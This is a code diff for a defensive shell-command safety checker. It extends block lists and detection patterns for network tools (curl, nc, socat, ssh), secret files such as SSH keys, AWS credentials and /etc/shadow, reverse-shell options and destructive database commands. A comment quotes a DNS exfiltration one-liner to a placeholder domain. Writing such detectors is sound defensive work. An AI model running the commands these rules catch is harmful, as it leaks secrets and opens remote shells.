@@ -1,5 +1,6 @@
 import { REASONS } from '../reasons.js';
-import { flag, type Scan } from '../scan.js';
+import { flag, UNKNOWN, type Scan } from '../scan.js';
+import { destroysData, destroysOverHttp } from './databases.js';
 import { checkWriteTarget } from '../write-targets.js';
 import type { Command, CommandSpec } from './spec.js';
 
@@ -10,12 +11,14 @@ import type { Command, CommandSpec } from './spec.js';
 export const NETWORK_SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'scp', 'sftp', 'ftp', 'telnet', 'rsync', 'ssh', 'http', 'https', 'xh', 'mail', 'sendmail', 'mutt', 'aws', 'gsutil', 'rclone', 'openssl']);
 /** Private keys, cloud and tool credentials, password databases and dotenv files (not `.env.example`). */
 export const SECRET_MENTION =
-  /(\.ssh(\/(id_[\w-]+|[\w-]+_key)\b(?!\.pub)|\/?$)|\.aws\/credentials|^~?\/?\.aws\/?$|\.gnupg\b|\.netrc\b|\.git-credentials\b|\.pgpass\b|\.docker\/config\.json|\.kube\/config|\/etc\/g?shadow\b|(^|[/@=])\.env(\.(local|production|prod|development|dev))?$|\.hearth\/)/;
+  /((^|\/)\.ssh(\/(id_[\w-]+|[\w-]+_key)\b(?!\.pub)|\/?$)|\.aws\/credentials|(^|\/)\.aws\/?$|\.gnupg\b|\.netrc\b|\.git-credentials\b|\.pgpass\b|\.docker\/config\.json|\.kube\/config|\/etc\/g?shadow\b|(^|[/@=])\.env(\.(local|production|prod|development|dev))?$|\.hearth\/)/;
 /** A secret variable placed in a URL or request body (a `-H` header with a token is ordinary API use). */
 const SECRET_VARIABLE_SENT = /(https?:\/\/\S*|(-d|--data[\w-]*|-F|--form)[\s=]\S*)\$\{?\w*(SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|PRIVATE_KEY|ACCESS_KEY)\w*/i;
 
 function download(command: Command, scan: Scan): void {
   const { name, args } = command;
+  if (destroysOverHttp(args)) flag(scan, REASONS.sqlDrop);
+  if (args.some((a) => /^(https?|ftp):\/\//.test(a) && a.includes(UNKNOWN) && /\$\(|`/.test(command.invocation.source))) scan.mentionsSecret = true;
   if (SECRET_VARIABLE_SENT.test(command.invocation.source)) scan.mentionsSecret = true;
   if (args.some((a) => /^@/.test(a) || /^-[dF]@|^--data[\w-]*=@|^--upload-file/.test(a))) {
     // `-d @.env`, `-T file`: the file is sent.
@@ -35,9 +38,45 @@ function download(command: Command, scan: Scan): void {
   if (namesItself) for (const url of urls) scan.downloads.add(url.slice(url.lastIndexOf('/') + 1));
 }
 
+const SSH_VALUES = new Set(['-b', '-c', '-D', '-E', '-e', '-F', '-I', '-i', '-J', '-L', '-l', '-m', '-O', '-o', '-p', '-Q', '-R', '-S', '-W', '-w', '-B', '--ssh', '--port']);
+/** ssh modes that open no shell: no command (-N), a forward or control request, a config query. */
+const NO_SHELL = /^-[a-zA-Z]*[NTGVQWO]|^-[LRD]$/;
+
+/**
+ * `ssh root@host …` runs as root there; `ssh host` / `mosh host` with no command opens an interactive shell on
+ * another machine, which this checker can no longer follow (`git@` hosts serve git, not a shell).
+ */
+export function judgeRemoteLogin(argv: readonly string[], scan: Scan): void {
+  const args = argv.slice(1);
+  let destination: string | undefined;
+  let at = 0;
+  for (; at < args.length; at += 1) {
+    const a = args[at] as string;
+    if (a === '--') continue;
+    if (a.startsWith('-')) {
+      if (SSH_VALUES.has(a)) at += 1;
+      continue;
+    }
+    destination = a;
+    break;
+  }
+  const user = args[args.indexOf('-l') + 1];
+  if (destination?.startsWith('root@') === true || (args.includes('-l') && user === 'root')) flag(scan, REASONS.sudo);
+  const command = args.slice(at + 1);
+  if (destination !== undefined && command.length === 0 && !destination.startsWith('git@') && !args.some((a) => NO_SHELL.test(a))) flag(scan, REASONS.remoteShell);
+}
+
 export const NETWORK_SPECS: readonly CommandSpec[] = [
   { names: ['curl', 'wget'], values: ['-o', '--output', '-O', '--output-document', '-H', '--header', '-d', '--data', '-X', '--request', '-u', '--user', '-A', '-e', '-T', '--upload-file', '-F', '--form'], check: download },
-  { names: ['nc', 'ncat', 'netcat'], rules: [{ option: /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/, reason: REASONS.remoteShell }] },
+  { names: ['nc', 'ncat', 'netcat'], rules: [{ option: /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/, reason: REASONS.remoteShell }], check: (c, s) => {
+    // `echo flush_all | nc localhost 11211`: a database protocol spoken by hand.
+    const text = c.invocation.stdin?.text;
+    if (text !== null && text !== undefined && destroysData(text)) flag(s, REASONS.sqlDrop);
+  } },
+  // A lookup whose name is computed (`dig $(whoami).$(hostname).x.example`) carries data out in the query.
+  { names: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6'], check: (c, s) => {
+    if (c.operands.some((o) => o.includes(UNKNOWN)) && /\$\(|`/.test(c.invocation.source)) flag(s, REASONS.exfiltration);
+  } },
   { names: ['socat'], check: (c, s) => (c.operands.some((a) => /^(exec|system):/i.test(a)) ? flag(s, REASONS.remoteShell) : undefined) },
   { names: ['telnet', 'sftp', 'ftp', 'rclone', 'mail', 'sendmail', 'http', 'https', 'xh'] },
 ];
